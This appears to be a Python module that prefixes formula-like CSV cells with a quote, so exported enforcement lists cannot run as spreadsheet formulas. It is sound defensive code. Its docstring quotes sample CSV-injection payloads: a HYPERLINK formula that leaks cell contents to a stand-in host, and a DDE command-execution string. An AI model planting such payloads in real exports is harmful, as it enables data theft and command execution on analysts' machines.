"""CSV cells a spreadsheet cannot run (OWASP "CSV injection").

Account ids, handles, URLs and reasons come from the data, and the data is the adversary's: an id
like ``=HYPERLINK("http://x/?"&A1)`` or ``+cmd|' /C calc'!A0`` becomes a live formula when an analyst
opens the enforcement list in Excel or LibreOffice. OWASP's rule: a cell that starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is prefixed with a single quote, so the spreadsheet shows it
as text.

One exception, on purpose: a cell that is a plain number (``-1001234567``, a Telegram channel id;
``+3.5``) is left as it is. A number is not a formula, and prefixing it would change ids that other
tools join on. Every CSV the project writes goes through here (docs/EXPORTS.md)."""

from __future__ import annotations

from pathlib import Path

import ibis
import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pacsv

FORMULA_START = r"^[=+\-@\t\r]"
PLAIN_NUMBER = r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$"


def neutralise_column(value: ibis.StringValue) -> ibis.StringValue:
    """The Ibis expression of one text column with formula-like cells quoted (any engine)."""
    risky = value.re_search(FORMULA_START) & ~value.re_search(PLAIN_NUMBER)
    return ibis.ifelse(risky, ibis.literal("'").concat(value), value)


def neutralised(table: ibis.Table) -> ibis.Table:
    """Every text column of ``table`` safe to open in a spreadsheet."""
    text = [c for c, t in table.schema().items() if t.is_string()]
    return table.mutate(**{c: neutralise_column(table[c]) for c in text}) if text else table


def neutralise_arrow(table: pa.Table) -> pa.Table:
    """The same rule on an Arrow table (vectorised; nulls stay null)."""
    for i, f in enumerate(table.schema):
        if not (pa.types.is_string(f.type) or pa.types.is_large_string(f.type)):
            continue
        col = table.column(i)
        risky = pc.and_(pc.match_substring_regex(col, FORMULA_START),
                        pc.invert(pc.match_substring_regex(col, PLAIN_NUMBER)))
        quoted = pc.binary_join_element_wise("'", col, "")
        table = table.set_column(i, f.name, pc.if_else(risky, quoted, col))
    return table


def write_csv(table: pa.Table, path: Path) -> int:
    """Write an Arrow table as CSV with formula-like cells neutralised; returns the row count."""
    pacsv.write_csv(neutralise_arrow(table), path)
    return table.num_rows


__all__ = ["neutralise_arrow", "neutralise_column", "neutralised", "write_csv"]
